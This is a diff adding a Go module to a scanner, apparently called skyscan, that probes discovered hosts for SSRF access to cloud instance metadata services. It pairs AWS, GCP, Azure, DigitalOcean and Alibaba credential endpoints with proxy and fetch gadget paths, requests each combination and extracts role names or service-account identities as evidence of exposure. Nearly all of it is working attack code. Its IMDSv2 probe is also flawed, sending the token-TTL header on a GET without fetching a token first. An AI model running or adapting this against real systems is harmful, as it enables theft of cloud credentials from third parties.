@@ -0,0 +1,171 @@
+// Package metadata probes a discovered target for exposed cloud instance
+// metadata endpoints, turning a cloud-attributed host (from netmapper or
+// the port-scanning worker) into an actionable credential-exposure
+// finding when it can be tricked into proxying requests to its own
+// link-local metadata service.
+package metadata
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"skyscan/pkg/core"
+	"strings"
+	"time"
+)
+
+// endpoint describes one cloud provider's instance metadata service and
+// the headers required to read it.
+type endpoint struct {
+	Provider string
+	URL      string
+	Headers  map[string]string
+}
+
+var imdsEndpoints = []endpoint{
+	{Provider: "AWS_IMDSv1", URL: "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
+	{Provider: "AWS_IMDSv2", URL: "http://169.254.169.254/latest/meta-data/iam/security-credentials/", Headers: map[string]string{"X-aws-ec2-metadata-token-ttl-seconds": "21600"}},
+	{Provider: "GCP", URL: "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/", Headers: map[string]string{"Metadata-Flavor": "Google"}},
+	{Provider: "Azure", URL: "http://169.254.169.254/metadata/instance?api-version=2021-02-01", Headers: map[string]string{"Metadata": "true"}},
+	{Provider: "DigitalOcean", URL: "http://169.254.169.254/metadata/v1/id"},
+	{Provider: "Alibaba", URL: "http://100.100.100.200/latest/meta-data/ram/security-credentials/"},
+}
+
+// ssrfGadgets are common open-proxy/fetch parameter names used to try
+// reaching each endpoint through the target rather than directly.
+var ssrfGadgets = []string{"/proxy?url=", "/fetch?u=", "/redirect?url=", "/image?url="}
+
+// Provider probes a discovered target for exposed IMDS endpoints, either
+// directly (if the target IS the metadata service reachable via SSRF) or
+// through known open-proxy/fetch gadget paths on the target.
+type Provider struct {
+	client *http.Client
+	config *core.Config
+}
+
+func NewProvider() *Provider {
+	return &Provider{
+		client: &http.Client{Timeout: 5 * time.Second},
+	}
+}
+
+func (p *Provider) Name() string {
+	return "METADATA_IMDS"
+}
+
+func (p *Provider) Init(config *core.Config) error {
+	p.config = config
+	return nil
+}
+
+// Generate emits one candidate per (gadget, IMDS endpoint) pair against
+// the given target base URL, plus the bare endpoint in case the target
+// itself forwards to its own metadata service without a gadget.
+func (p *Provider) Generate(ctx context.Context, keyword string, output chan<- string) {
+	for _, ep := range imdsEndpoints {
+		select {
+		case <-ctx.Done():
+			return
+		case output <- fmt.Sprintf("%s|%s", ep.Provider, ep.URL):
+		}
+
+		for _, gadget := range ssrfGadgets {
+			target := fmt.Sprintf("https://%s%s%s", keyword, gadget, ep.URL)
+			select {
+			case <-ctx.Done():
+				return
+			case output <- fmt.Sprintf("%s|%s", ep.Provider, target):
+			}
+		}
+	}
+}
+
+// Check requests the candidate (either directly against a proxied
+// target, or against an SSRF gadget URL) and classifies the response
+// as IMDS exposure when it looks like credential/role material.
+func (p *Provider) Check(ctx context.Context, target string) (*core.Result, error) {
+	provider, url, ok := strings.Cut(target, "|")
+	if !ok {
+		return nil, fmt.Errorf("malformed metadata target %q", target)
+	}
+
+	ep := endpointFor(provider)
+
+	req, err := http.NewRequestWithContext(ctx, "GET", url, nil)
+	if err != nil {
+		return nil, err
+	}
+	for k, v := range ep.Headers {
+		req.Header.Set(k, v)
+	}
+
+	resp, err := p.client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != 200 {
+		return nil, nil
+	}
+
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 64*1024))
+	if err != nil {
+		return nil, err
+	}
+
+	identity := extractIdentity(provider, body)
+	if identity == "" {
+		return nil, nil
+	}
+
+	return &core.Result{
+		URL:         url,
+		Provider:    provider,
+		Status:      resp.StatusCode,
+		Size:        int64(len(body)),
+		Permissions: "IMDS_EXPOSED",
+		Files:       []string{identity},
+	}, nil
+}
+
+func endpointFor(provider string) endpoint {
+	for _, ep := range imdsEndpoints {
+		if ep.Provider == provider {
+			return ep
+		}
+	}
+	return endpoint{}
+}
+
+// extractIdentity pulls a role name or account ID out of a metadata
+// response body, enough to show the finding is a real credential leak
+// and not a generic 200 from an unrelated service.
+func extractIdentity(provider string, body []byte) string {
+	text := strings.TrimSpace(string(body))
+	if text == "" {
+		return ""
+	}
+
+	switch {
+	case strings.HasPrefix(provider, "AWS"):
+		// IMDS security-credentials/ returns the bare role name.
+		if !strings.Contains(text, "<") && !strings.Contains(text, "{") {
+			return text
+		}
+	case provider == "GCP":
+		// service-accounts/default/ returns a newline-delimited attribute list.
+		for _, line := range strings.Split(text, "\n") {
+			if strings.Contains(line, "email") {
+				return line
+			}
+		}
+	case provider == "Azure":
+		if strings.Contains(text, "\"subscriptionId\"") {
+			return text
+		}
+	}
+
+	return ""
+}